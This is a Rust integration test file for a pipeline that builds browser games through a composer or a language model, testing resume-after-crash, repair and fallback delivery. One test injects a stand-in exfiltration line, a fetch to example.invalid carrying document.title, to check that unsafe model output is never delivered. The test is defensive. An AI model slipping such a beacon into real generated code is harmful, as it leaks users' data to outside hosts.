//! Whole runs through the public API, on scripted and on real parts.

use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};

use builder_core::{
    codes::Fault,
    drive::{self, DriveError, DriveSettings, Ports, RunEnd},
    drivers::{authors::PreparedAuthor, stores::MemoryStore},
    game::{BuildRequest, CodeAuthor, EngineChoice, GameFolder},
    ports::{ArtifactStore, CheckpointStore, DerivedIds, LanguageModel, ModelCall, ModelFault, ModelReply, RunIds},
    protocol::{Checkpoint, DeliveryMode, Event, Limits, ModelPurpose, Phase, RunId, Usage},
    testing::{EventLog, FailingStore, ManualClock, ScriptedModel},
};

const IDEA: &str = "an owl catches mice at night";

fn request(author: CodeAuthor) -> BuildRequest {
    BuildRequest { engine: EngineChoice::None, code_author: author, ..BuildRequest::new(IDEA) }
}

/// Drives one run to its end over `store`, in a world where every reading of the clock is a millisecond.
async fn run<S: CheckpointStore + ArtifactStore>(
    store: &S,
    author: CodeAuthor,
    model: Option<&dyn LanguageModel>,
    events: &EventLog,
    resume: bool,
) -> Result<RunEnd, DriveError> {
    let ports = Ports {
        author: &PreparedAuthor::default(),
        model,
        tester: None,
        checkpoints: store,
        artifacts: store,
        clock: &ManualClock::new(1_764_547_200_000, 1),
        events,
    };
    let settings = DriveSettings::default();
    let request = request(author);
    let id = DerivedIds.candidate(&request, 1);
    if resume {
        drive::resume(ports, &settings, &id).await
    } else {
        drive::build(ports, &settings, &id, request, Limits::default()).await
    }
}

fn id(author: CodeAuthor) -> RunId {
    DerivedIds.candidate(&request(author), 1)
}

fn delivered(end: RunEnd) -> (Option<DeliveryMode>, u8) {
    match end {
        RunEnd::Delivered { delivery, exit, .. } => (delivery.mode, exit),
        RunEnd::Paused { before } => panic!("paused before {before}"),
    }
}

#[tokio::test]
async fn a_run_without_a_model_delivers_a_composed_game() {
    let (store, events) = (MemoryStore::new(), EventLog::default());
    let end = run(&store, CodeAuthor::Composer, None, &events, false).await.unwrap();
    assert_eq!(delivered(end), (Some(DeliveryMode::Composed), 0));
    let run = id(CodeAuthor::Composer);
    let game = store.folder(&run, "game").unwrap();
    assert_eq!(game.files.keys().collect::<Vec<_>>(), ["game.js", "index.html", "play.html", "style.css"]);
    let history = store.history(&run).await.unwrap().records;
    let kinds: Vec<&str> = history.iter().map(|record| record.checkpoint.name()).collect();
    assert_eq!(kinds.first(), Some(&"started"));
    assert_eq!(kinds[kinds.len() - 5..], ["planned", "built", "critiqued", "validated", "ended"]);
    let events = events.events();
    assert!(matches!(events.last().unwrap().event, Event::RunCompleted { .. }));
    assert!(events.iter().enumerate().all(|(seq, event)| event.seq == seq as u64));
}

/// The disk fills up, or the process is killed, at every single write; what is left is resumed and comes to the
/// same game.
#[tokio::test]
async fn a_run_that_breaks_off_at_any_write_is_resumed_to_the_same_game() {
    let (whole, events) = (MemoryStore::new(), EventLog::default());
    run(&whole, CodeAuthor::Composer, None, &events, false).await.unwrap();
    let run_id = id(CodeAuthor::Composer);
    let wanted = whole.folder(&run_id, "game").unwrap();
    let kinds = |records: Vec<builder_core::protocol::CheckpointRecord>| -> Vec<Checkpoint> {
        records.into_iter().map(|record| untimed(record.checkpoint)).collect()
    };
    let facts = kinds(whole.history(&run_id).await.unwrap().records);

    let mut broken = 0;
    for writes in 1.. {
        let store = Arc::new(MemoryStore::new());
        let failing = FailingStore::after(Shared(store.clone()), writes);
        match run(&failing, CodeAuthor::Composer, None, &EventLog::default(), false).await {
            Ok(_) => break,
            Err(error) => assert_eq!(error.code(), "output-unwritable"),
        }
        broken += 1;
        let end = run(&Shared(store.clone()), CodeAuthor::Composer, None, &EventLog::default(), true).await.unwrap();
        assert_eq!(delivered(end), (Some(DeliveryMode::Composed), 0), "broken at write {writes}");
        assert_eq!(store.folder(&run_id, "game").unwrap(), wanted, "broken at write {writes}");
        assert_eq!(kinds(store.history(&run_id).await.unwrap().records), facts, "broken at write {writes}");
        for name in ["plan.json", "clarification.json", "critique.json", "validation_report.json", "run_manifest.json"]
        {
            assert!(store.document(&run_id, name).await.unwrap().is_some(), "{name}, broken at write {writes}");
        }
    }
    assert!(broken > 20, "{broken}");
}

/// A checkpoint without the times in it.
fn untimed(mut checkpoint: Checkpoint) -> Checkpoint {
    if let Checkpoint::Validated { report } = &mut checkpoint {
        report.timestamp.clear();
        report.wall_ms = 0;
    }
    checkpoint
}

/// A store in two hands: one fails, one looks at what it left.
struct Shared(Arc<MemoryStore>);

#[async_trait::async_trait]
impl CheckpointStore for Shared {
    async fn append(&self, run: &RunId, record: &builder_core::protocol::CheckpointRecord) -> Result<(), Fault> {
        self.0.append(run, record).await
    }
    async fn history(&self, run: &RunId) -> Result<builder_core::ports::History, Fault> {
        self.0.history(run).await
    }
    async fn hold(&self, run: &RunId, owner: &str) -> Result<builder_core::ports::Hold, Fault> {
        self.0.hold(run, owner).await
    }
    async fn set_aside(&self, run: &RunId, from: u64) -> Result<(), Fault> {
        self.0.set_aside(run, from).await
    }
    async fn runs(&self) -> Result<Vec<RunId>, Fault> {
        CheckpointStore::runs(&*self.0).await
    }
}

#[async_trait::async_trait]
impl ArtifactStore for Shared {
    async fn put_build(&self, run: &RunId, build: u32, game: &GameFolder) -> Result<(), Fault> {
        self.0.put_build(run, build, game).await
    }
    async fn build(&self, run: &RunId, build: u32) -> Result<GameFolder, Fault> {
        self.0.build(run, build).await
    }
    async fn swap_folder(&self, run: &RunId, name: &str, folder: &GameFolder) -> Result<(), Fault> {
        self.0.swap_folder(run, name, folder).await
    }
    async fn put_document(&self, run: &RunId, name: &str, bytes: &[u8]) -> Result<(), Fault> {
        self.0.put_document(run, name, bytes).await
    }
    async fn document(&self, run: &RunId, name: &str) -> Result<Option<Vec<u8>>, Fault> {
        self.0.document(run, name).await
    }
    async fn append_event(&self, run: &RunId, line: &str) -> Result<(), Fault> {
        self.0.append_event(run, line).await
    }
}

async fn composed_game() -> GameFolder {
    let store = MemoryStore::new();
    run(&store, CodeAuthor::Composer, None, &EventLog::default(), false).await.unwrap();
    store.build(&id(CodeAuthor::Composer), 1).await.unwrap()
}

fn reply(game: &GameFolder, script: impl Fn(&str) -> String) -> Result<ModelReply, Fault> {
    let mut text = String::from("Here is your game.\n");
    for name in ["index.html", "style.css", "game.js"] {
        let file = game.text(name).unwrap();
        let file = if name == "game.js" { script(file) } else { file.to_owned() };
        text.push_str(&format!("=== FILE: {name} ===\n{file}\n=== END: {name} ===\n"));
    }
    let usage = Usage { tokens_in: 1_000, tokens_out: 4_000, ..Usage::default() };
    Ok(ModelReply { usage: Some(usage), ..ModelReply::new(text) })
}

#[tokio::test]
async fn a_models_game_is_repaired_by_what_the_critic_found() {
    let game = composed_game().await;
    let model =
        ScriptedModel::new([reply(&game, |code| format!("{code}\nlet broken = ;\n")), reply(&game, str::to_owned)]);
    let author = CodeAuthor::Model("scripted".into());
    let (store, events) = (MemoryStore::new(), EventLog::default());
    let end = run(&store, author.clone(), Some(&model), &events, false).await.unwrap();
    assert_eq!(delivered(end), (Some(DeliveryMode::Generated), 0));
    let (builds, calls) = (model.calls_for(ModelPurpose::Build), model.calls_for(ModelPurpose::Repair));
    assert_eq!((builds.len(), calls.len()), (1, 1));
    assert!(calls[0].user.contains("syntax-error"), "{}", calls[0].user);
    assert!(calls[0].user.contains("let broken"), "the repair sees the files as they are");
    let manifest: serde_json::Value =
        serde_json::from_slice(&store.document(&id(author), "run_manifest.json").await.unwrap().unwrap()).unwrap();
    assert_eq!((manifest["tokens"].as_u64(), manifest["build"].as_u64()), (Some(10_000), Some(2)));
    assert!(manifest["prompt_hashes"]["builder_system.md"].as_str().unwrap().len() == 12);
}

#[tokio::test]
async fn an_unsafe_game_of_a_model_is_never_delivered() {
    let game = composed_game().await;
    let evil = || reply(&game, |code| format!("{code}\nfetch('https://example.invalid/?' + document.title);\n"));
    let model = ScriptedModel::new([evil(), evil(), evil(), evil(), evil(), evil()]);
    let author = CodeAuthor::Model("scripted".into());
    let (store, events) = (MemoryStore::new(), EventLog::default());
    let end = run(&store, author.clone(), Some(&model), &events, false).await.unwrap();
    assert_eq!(delivered(end), (Some(DeliveryMode::DegradedFallback), 0));
    assert!(!store.folder(&id(author.clone()), "game").unwrap().text("game.js").unwrap().contains("example.invalid"));
    let played: Vec<u32> = store
        .history(&id(author))
        .await
        .unwrap()
        .records
        .into_iter()
        .filter_map(|record| match record.checkpoint {
            Checkpoint::Validated { report } => Some(report.build),
            _ => None,
        })
        .collect();
    assert_eq!(played.len(), 1, "only the template's game was played");
}

#[tokio::test]
async fn replies_without_a_game_and_a_model_that_is_not_there_end_as_they_should() {
    let chatter = || Ok(ModelReply::new("I would rather talk about it."));
    let model = ScriptedModel::new([chatter(), chatter(), chatter(), chatter()]);
    let author = CodeAuthor::Model("scripted".into());
    let (store, events) = (MemoryStore::new(), EventLog::default());
    let end = run(&store, author.clone(), Some(&model), &events, false).await.unwrap();
    assert_eq!(delivered(end), (Some(DeliveryMode::DegradedFallback), 0));
    assert_eq!(model.calls_for(ModelPurpose::Build).len(), 3);
    assert!(model.calls_for(ModelPurpose::Build)[1].user.contains("held no game"), "it is told what was wrong");

    let end = run(&MemoryStore::new(), author, None, &EventLog::default(), false).await.unwrap();
    assert_eq!(delivered(end), (None, 4));
}

#[tokio::test]
async fn resuming_a_run_that_is_over_delivers_it_again_and_an_unknown_one_is_told() {
    let store = MemoryStore::new();
    run(&store, CodeAuthor::Composer, None, &EventLog::default(), false).await.unwrap();
    let before = store.history(&id(CodeAuthor::Composer)).await.unwrap().records.len();
    let end = run(&store, CodeAuthor::Composer, None, &EventLog::default(), true).await.unwrap();
    assert_eq!(delivered(end), (Some(DeliveryMode::Composed), 0));
    assert_eq!(store.history(&id(CodeAuthor::Composer)).await.unwrap().records.len(), before);
    let error = run(&MemoryStore::new(), CodeAuthor::Composer, None, &EventLog::default(), true).await.unwrap_err();
    assert_eq!(error.code(), "run-unknown");
    assert_eq!(Phase::from_name("done"), Some(Phase::Done));
}

/// Answers by what it is asked, and counts.
struct Answering {
    build: ModelReply,
    repair: ModelReply,
    asked: AtomicUsize,
}

#[async_trait::async_trait]
impl LanguageModel for Answering {
    async fn complete(&self, call: &ModelCall) -> Result<ModelReply, ModelFault> {
        self.asked.fetch_add(1, Ordering::SeqCst);
        Ok(match call.purpose {
            ModelPurpose::Build => self.build.clone(),
            ModelPurpose::Repair => self.repair.clone(),
            ModelPurpose::Clarify | ModelPurpose::Plan => ModelReply::new("I would rather not say."),
        })
    }
}

/// The process is killed at every single write of a run that asks a model seven times. What was answered and kept is
/// never asked for again, what the run has spent is the same, and it can be done again from its records.
#[tokio::test]
async fn a_model_is_asked_nothing_twice_that_it_has_answered() {
    let game = written_game();
    let model = || Answering {
        build: reply(&game, |code| format!("{code}\nlet broken = ;\n")).unwrap(),
        repair: reply(&game, str::to_owned).unwrap(),
        asked: AtomicUsize::new(0),
    };
    let author = CodeAuthor::Model("scripted".into());
    let (whole, answering) = (MemoryStore::new(), model());
    run(&whole, author.clone(), Some(&answering), &EventLog::default(), false).await.unwrap();
    let wanted = answering.asked.load(Ordering::SeqCst);
    let tokens = manifest(&whole, &author).await["tokens"].clone();
    let mut repeated = 0;
    for writes in 1.. {
        let (store, answering) = (Arc::new(MemoryStore::new()), model());
        let failing = FailingStore::after(Shared(store.clone()), writes);
        let events = EventLog::default();
        if run(&failing, author.clone(), Some(&answering), &events, false).await.is_ok() {
            break;
        }
        let answered = answering.asked.load(Ordering::SeqCst);
        let mut kept = 0;
        for call in 1..=answered {
            let name = format!("model_calls/{call:03}.json");
            kept += usize::from(store.document(&id(author.clone()), &name).await.unwrap().is_some());
        }
        assert!(answered - kept <= 1, "at most the answer in flight is lost at write {writes}");
        let again = run(&Shared(store.clone()), author.clone(), Some(&answering), &EventLog::default(), true).await;
        assert_eq!(delivered(again.unwrap()), (Some(DeliveryMode::Generated), 0), "broken at write {writes}");
        let asked = answering.asked.load(Ordering::SeqCst);
        assert_eq!(asked, wanted + answered - kept, "broken at write {writes}");
        repeated += answered - kept;
        assert_eq!(manifest(&store, &author).await["tokens"], tokens, "broken at write {writes}");
        let run = id(author.clone());
        let replay = drive::replay(&*store, &*store, &DriveSettings::default(), &run).await.unwrap();
        assert_eq!((replay.difference, replay.builds), (None, vec![1, 2]), "broken at write {writes}");
        let verified = drive::verify(&*store, &*store, &run).await.unwrap();
        assert!(verified.iter().all(|row| row.problem.is_none()), "broken at write {writes}: {verified:?}");
    }
    assert_eq!(repeated, wanted, "each answer was lost once: at the write that would have kept it");
}

fn written_game() -> GameFolder {
    let dir = scenarios::workspace().join("tests/games/written/garden-snake");
    let files = ["index.html", "style.css", "game.js"];
    GameFolder { files: files.map(|name| (name.to_owned(), std::fs::read(dir.join(name)).unwrap())).into() }
}

async fn manifest(store: &MemoryStore, author: &CodeAuthor) -> serde_json::Value {
    let bytes = store.document(&id(author.clone()), "run_manifest.json").await.unwrap().unwrap();
    serde_json::from_slice(&bytes).unwrap()
}
